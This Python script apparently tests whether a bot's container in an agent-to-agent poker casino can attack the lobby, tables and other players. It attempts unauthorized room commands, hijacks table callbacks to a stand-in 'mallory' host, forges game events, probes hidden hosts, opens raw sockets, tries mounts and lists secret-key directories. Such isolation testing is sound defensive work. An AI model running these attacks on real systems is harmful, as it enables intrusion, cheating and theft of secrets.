"""Attacks of a bot from its container, run there: `python - TARGETS <attack.py`.

TARGETS is JSON: the URLs of `lobby`, `tables` and `players`, the `room` that they play in, the room
that commands name (`commanded`), the `tokens` that are tried beside none, and names and addresses
that must be `hidden`. Printed is one JSON object: for every attack that was let through what came
of it, null for one that was refused.

A call counts as refused only when the answer says that the caller may not make it: neither a fault
in the attack nor a server that is away looks like a defence. Standard library only.
"""
# ruff: noqa: T201  what it prints is its result

import ctypes
import json
import os
import socket
import sys
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any

EXTENSION = "urn:a2a-casino:typed-entrypoints:v1"
HEADERS = {
    "Content-Type": "application/json",
    "A2A-Version": "1.0",
    "A2A-Extensions": EXTENSION,
}
REFUSED = (401, 403)
REASONS = ('"UNAUTHORIZED"', '"FORBIDDEN"')
MINE = "http://mallory:9000/.well-known/agent-card.json"
QUESTION = {
    "bettingRound": "preflop",
    "communityCards": [],
    "holeCards": [{"rank": "A", "suit": "spades"}, {"rank": "K", "suit": "hearts"}],
    "pot": 3,
    "minimumRaise": 2,
    "currentBet": 2,
    "playerStack": 200,
    "legalActions": ["fold", "call", "raise", "all-in"],
    "minRaiseTo": 4,
    "maxRaiseTo": 200,
}

Attack = tuple[str, Callable[[], str | None]]
"""A name, and what carries it out: it returns what came of it, or None when it was refused."""


def ask(method: str, url: str, body: Any = None, token: str = "") -> tuple[int, str]:
    """Send one request; returns the status and the body of the answer."""
    headers = {**HEADERS, **({"Authorization": f"Bearer {token}"} if token else {})}
    content = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(url, content, headers, method=method)
    try:
        with urllib.request.urlopen(request, timeout=10) as reply:
            return reply.status, reply.read().decode()
    except urllib.error.HTTPError as error:
        with error:
            return error.code, error.read().decode()


def read(url: str) -> Any:
    """Return public pages of the lobby."""
    status, body = ask("GET", url)
    if status in REFUSED:
        sys.exit(f"{url} is not public: {status} {body}")
    return json.loads(body)


def rest(method: str, url: str, body: Any, tokens: list[str]) -> str | None:
    """Send a command to the lobby's REST interface with every token."""
    for token in tokens:
        status, answer = ask(method, url, body, token)
        if status not in REFUSED:
            return f"{status} {answer[:300]}"
    return None


def a2a(agent: str, skill: str, data: Any, tokens: list[str]) -> str | None:
    """Call a skill with every token, by header and by path, at every interface of the card."""
    card = read(f"{agent}/.well-known/agent-card.json")
    interfaces = [(one["protocolBinding"], one["url"]) for one in card["supportedInterfaces"]]
    origin = "/".join(agent.split("/")[:3])
    for binding, url in interfaces:
        for token in tokens:
            places = [(url, token)]
            if token:
                places.append((f"{origin}/t/{token}{url.removeprefix(origin)}", ""))
            for place, shown in places:
                answer = call(binding, place, skill, data, shown)
                if not any(reason in answer for reason in REASONS):
                    return f"{place}: {answer[:300]}"
    return None


def call(binding: str, url: str, skill: str, data: Any, token: str) -> str:
    """Make one typed call; returns the body of the answer."""
    message = {
        "messageId": "m",
        "role": "ROLE_USER",
        "extensions": [EXTENSION],
        "metadata": {EXTENSION: {"skill": skill}},
        "parts": [{"data": data, "mediaType": "application/json"}],
    }
    if binding == "HTTP+JSON":
        return ask("POST", f"{url}/message:send", {"message": message}, token)[1]
    envelope = {"jsonrpc": "2.0", "id": "1", "method": "SendMessage"}
    return ask("POST", url, {**envelope, "params": {"message": message}}, token)[1]


def lobby_attacks(lobby: str, room: str, commanded: str, tokens: list[str]) -> Iterator[Attack]:
    """Command the lobby, announce tables, report hands that were not played."""
    config = read(f"{lobby}/v1/rooms/{room}")["config"]
    place = f"{lobby}/v1/rooms/{commanded}"
    player = {"agentCardUrl": MINE}
    for method, url, body in (
        ("POST", f"{lobby}/v1/rooms", {"roomId": commanded, "config": config}),
        ("POST", f"{place}/players", player),
        ("DELETE", f"{place}/players/player-1", None),
        ("POST", f"{place}/start", {}),
        ("POST", f"{place}/close", None),
        ("DELETE", place, None),
        ("GET", f"{place}/hands/1/record", None),
    ):
        yield (
            f"lobby: {method} {url.removeprefix(lobby)}",
            partial(rest, method, url, body, tokens),
        )
    commands: dict[str, Any] = {
        "createRoom": {"roomId": commanded, "config": config},
        "registerPlayer": {"roomId": commanded, **player},
        "leaveRoom": {"roomId": commanded, "playerId": "player-1"},
        "startRoom": {"roomId": commanded},
    }
    for skill, data in commands.items():
        yield f"lobby: {skill}", partial(a2a, lobby, skill, data, tokens)
    for name, data in (
        ("a table", {"agentCardUrl": MINE}),
        ("a table that moved", {"agentCardUrl": MINE, "tableId": room}),
    ):
        yield f"lobby: announce {name}", partial(a2a, lobby, "registerTable", data, tokens)
    event = read(f"{lobby}/v1/rooms/{room}/events?limit=1")["events"][0]
    bare = {key: value for key, value in event.items() if key not in {"sequence", "epoch"}}
    for name, data in (
        ("an event", event),
        ("an event without epoch", bare),
        ("a batch", {"events": [event]}),
    ):
        yield f"lobby: report {name}", partial(a2a, lobby, "recordGameEvent", data, tokens)


def table_attacks(lobby: str, table: str, room: str, tokens: list[str]) -> Iterator[Attack]:
    """Take a table over, play with it, read its records."""
    known = read(f"{lobby}/v1/rooms/{room}")
    hands = read(f"{lobby}/v1/rooms/{room}/hands?order=newest")["hands"]
    takeover = {
        "tableId": known.get("tableId") or room,
        "casinoName": read(f"{lobby}/v1/config")["name"],
        "config": known["config"],
        "casinoCallback": {"agentCardUrl": MINE, "eventSkill": "recordGameEvent", "secret": "mine"},
        "epoch": known.get("epoch") or 1,
    }
    mallory = {"playerId": "mallory", "displayName": "Mallory", "agentCardUrl": MINE}
    seat = {**mallory, "seatNumber": 0, "stack": 9_000_000}
    calls: dict[str, Any] = {
        "configureTable": takeover,
        "configureTable, a higher epoch": {**takeover, "epoch": 1_000, "seats": [seat]},
        "registerPlayer": {**mallory, "actionSkill": "act", "startingStack": 200},
        "startGame": {},
        "leaveTable": {"playerId": "player-1"},
        "handRecord": {"handId": hands[0]["handId"]},
        "closeTable": {},
    }
    yield f"{table}: who sits there", partial(seats_shown, table)
    for name, data in calls.items():
        yield f"{table}: {name}", partial(a2a, table, name.partition(",")[0], data, tokens)


def seats_shown(table: str) -> str | None:
    """Request a table's summary, which shows seats to its lobby only."""
    for interface in read(f"{table}/.well-known/agent-card.json")["supportedInterfaces"]:
        answer = call(interface["protocolBinding"], interface["url"], "tableSummary", {}, "")
        if "displayName" in answer or "status" not in answer:
            return answer[:300]
    return None


def player_attacks(player: str, room: str, tokens: list[str]) -> Iterator[Attack]:
    """Ask an opponent for its action."""
    question = {**QUESTION, "tableId": room}
    yield f"{player}: act", partial(a2a, player, "act", question, tokens)


def reached(target: str) -> str | None:
    """Connect to a place that must not be reachable, by name or by address."""
    host, _, port = target.rpartition(":")
    try:
        with socket.create_connection((host, int(port)), timeout=3):
            return "a connection"
    except OSError:
        return None


def listened() -> str | None:
    """Listen to the packets of the neighbours, or forge some."""
    for family in (socket.AF_PACKET, socket.AF_INET):
        try:
            socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
        except PermissionError:
            continue
        return "a raw socket"
    return None


def mounted() -> str | None:
    """Mount a file system."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
        return "a mount"
    return None if ctypes.get_errno() in {1, 13} else os.strerror(ctypes.get_errno())


def keys_seen() -> str | None:
    """Look for files of keys."""
    found = [
        f"{directory}/{name}"
        for top in ("/run/keys", "/run/secrets", "/var/lib/casino")
        for directory, _directories, names in os.walk(top)
        for name in names
    ]
    return " ".join(found) or None


def main(targets: dict[str, Any]) -> None:
    """Carry out every attack."""
    lobby, room, tokens = targets["lobby"], targets["room"], ["", *targets["tokens"]]
    attacks: list[Attack] = [
        *lobby_attacks(lobby, room, targets["commanded"], tokens),
        *(
            attack
            for url in targets["tables"]
            for attack in table_attacks(lobby, url, room, tokens)
        ),
        *(attack for url in targets["players"] for attack in player_attacks(url, room, tokens)),
        *((f"reach {place}", partial(reached, place)) for place in targets["hidden"]),
        ("raw sockets", listened),
        ("mount", mounted),
        ("files of keys", keys_seen),
    ]
    print(json.dumps({name: attack() for name, attack in attacks}))


if __name__ == "__main__":
    main(json.loads(sys.argv[1]))
